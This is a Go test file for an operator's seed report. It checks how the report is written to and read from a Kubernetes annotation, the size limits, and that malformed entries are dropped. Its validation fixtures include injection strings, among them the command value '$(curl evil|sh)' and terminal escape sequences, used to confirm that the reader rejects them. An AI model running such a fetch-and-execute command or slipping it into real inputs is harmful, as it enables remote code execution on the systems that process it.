// SPDX-License-Identifier: Apache-2.0

package seedpublication

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	landscapev1alpha1 "github.com/pergola-dev/pergola/api/landscape/v1alpha1"
	"github.com/pergola-dev/pergola/change"
)

// TestReport checks that a report is read as it was written, causes a write only when it changes,
// and stays small.
func TestReport(t *testing.T) {
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	assert.Nil(t, ReadSeedReport(nil))
	assert.Nil(t, ReadSeedReport(seed))
	write := func(r SeedReport) bool {
		t.Helper()
		patch, differs, err := ReportPatch(seed, r)
		require.NoError(t, err)
		if differs {
			text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
			require.NoError(t, err)
			seed.SetAnnotations(map[string]string{AnnotationReport: text})
		}
		return differs
	}
	small := SeedReport{Digest: strings.Repeat("ab", 32), Converging: []string{"Seed one"}, Held: []HeldObject{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Reason: change.Reason{Detail: "because"}, Approval: "0123456789ab-2"}}}
	assert.True(t, write(small))
	assert.False(t, write(small))
	assert.Equal(t, small, *ReadSeedReport(seed))
	small.Converging = nil
	assert.True(t, write(small))

	var large SeedReport
	for i := range 1000 {
		large.Converging = append(large.Converging, fmt.Sprintf("Shoot garden-a/%d", i))
		large.Failing = append(large.Failing, fmt.Sprintf("Shoot garden-a/%d", i))
		large.Held = append(large.Held, HeldObject{Owner: "Seed one", Cluster: "one", Object: fmt.Sprintf("ConfigMap %s/%d", strings.Repeat("n", 63), i), Reason: change.Reason{Detail: strings.Repeat("ü", 2000)}})
	}
	assert.True(t, write(large))
	assert.False(t, write(large), "it is the same as far as it goes")
	read := ReadSeedReport(seed)
	assert.Equal(t, []int{10, 990, 10, 990, 50, 950}, []int{len(read.Converging), read.ConvergingMore, len(read.Failing), read.FailingMore, len(read.Held), read.HeldMore})
	assert.Less(t, len(seed.GetAnnotations()[AnnotationReport]), 64<<10)
	assert.Len(t, large.Held, 1000, "the one who reports keeps his own")

	seed.SetAnnotations(map[string]string{AnnotationReport: "{"})
	assert.Nil(t, ReadSeedReport(seed), "what cannot be read is none")
	assert.True(t, write(small))
}

// TestReportProblem checks that an unreadable report is not treated as a missing one.
// TestInvalidReportEntries checks that entries of another form are dropped and counted while
// reading, and corrected while writing.
func TestReportProblem(t *testing.T) {
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	seed.SetName("one")
	assert.Empty(t, ReportProblem(nil))
	assert.Empty(t, ReportProblem(seed))
	for text, want := range map[string]string{"{}": "", "{": "unexpected end of JSON input", `{"held": "x"}`: "cannot unmarshal string", "[]": "cannot unmarshal array",
		`{"digest": ` + strings.Repeat("1", 5000) + `}`: "cannot unmarshal number"} {
		seed.SetAnnotations(map[string]string{AnnotationReport: text})
		why := ReportProblem(seed)
		assert.Equal(t, want == "", ReadSeedReport(seed) != nil, text)
		assert.Contains(t, why, want)
		assert.Equal(t, want == "", why == "", text)
		assert.Less(t, len(why), 1000)
		if want != "" {
			assert.Contains(t, why, "Seed one")
		}
	}
}

func TestInvalidReportEntries(t *testing.T) {
	good := HeldObject{Owner: "Shoot garden-a/b", Cluster: "one", Object: "ClusterRole system:node", Reason: change.Reason{Detail: "because of „it“"}, Approval: "0123456789ab", GroupApproval: "ba9876543210-12"}
	for name, spoil := range map[string]func(*HeldObject){
		"owner":                   func(h *HeldObject) { h.Owner = "nobody" },
		"cluster":                 func(h *HeldObject) { h.Cluster = "" },
		"a line break":            func(h *HeldObject) { h.Object = "ConfigMap a/b\nHeld: c" },
		"a long one":              func(h *HeldObject) { h.Object = "ConfigMap " + strings.Repeat("<", 200_000) },
		"a long name":             func(h *HeldObject) { h.Object = "ConfigMap a/" + strings.Repeat("b", 254) },
		"a kind that is none":     func(h *HeldObject) { h.Object = "$(x) a/b" },
		"two names":               func(h *HeldObject) { h.Object = "ConfigMap a/b/c" },
		"a command as its id":     func(h *HeldObject) { h.Approval = "$(curl evil|sh)" },
		"an id of a seed":         func(h *HeldObject) { h.Approval = "one/0123456789ab" },
		"more ids":                func(h *HeldObject) { h.GroupApproval = "0123456789ab 0123456789ac" },
		"a reason with an escape": func(h *HeldObject) { h.Reason.Detail = "why\x1b[2J" },
		"a reason of two lines":   func(h *HeldObject) { h.Reason.Detail = "why\nHeld" },
		"a code of another form":  func(h *HeldObject) { h.Reason.Code = "evil\x1b[2J" },
		"a long code":             func(h *HeldObject) { h.Reason.Code = landscapev1alpha1.HeldCode(strings.Repeat("x", 41)) },
		"a code of the operator":  func(h *HeldObject) { h.Reason = change.Reason{Code: landscapev1alpha1.HeldIncompleteReport, Count: 7} },
		"a negative number":       func(h *HeldObject) { h.Reason.Count = -1 },
		"a number of 33 bits":     func(h *HeldObject) { h.Reason.Limit = 1 << 32 },
		"a total that is none":    func(h *HeldObject) { h.Reason.Total = -1 },
		"a reason turned around":  func(h *HeldObject) { h.Reason.Detail = "why\u202e" },
	} {
		t.Run(name, func(t *testing.T) {
			bad := good
			spoil(&bad)
			text, err := json.Marshal(SeedReport{Converging: []string{"Seed one", "Seed \x1b"}, ConvergingMore: -1, Held: []HeldObject{bad, good}})
			require.NoError(t, err)
			seed := &unstructured.Unstructured{Object: map[string]any{}}
			seed.SetAnnotations(map[string]string{AnnotationReport: string(text)})
			assert.Equal(t, &SeedReport{Converging: []string{"Seed one"}, Held: []HeldObject{good}, Dropped: 3}, ReadSeedReport(seed))
		})
	}
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	seed.SetAnnotations(map[string]string{AnnotationReport: `{"held": [{"owner": "Seed one", "cluster": "one", "object": "Service a/b", "reason": "too many"}, {"owner": "Seed one", "cluster": "one", "object": "Service a/c", "reason": "too\nmany"}]}`})
	assert.Equal(t, &SeedReport{Held: []HeldObject{{Owner: "Seed one", Cluster: "one", Object: "Service a/b", Reason: change.Reason{Detail: "too many"}}}, Dropped: 1}, ReadSeedReport(seed), "that of a former version")
	said := good
	said.Reason.Detail = "it says:\n\tno"
	patch, _, err := ReportPatch(seed, SeedReport{Held: []HeldObject{said}})
	require.NoError(t, err)
	text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
	require.NoError(t, err)
	seed.SetAnnotations(map[string]string{AnnotationReport: text})
	assert.Equal(t, "it says:  no", ReadSeedReport(seed).Held[0].Reason.String())
	_, differs, err := ReportPatch(seed, SeedReport{Held: []HeldObject{said}})
	require.NoError(t, err)
	assert.False(t, differs)
}
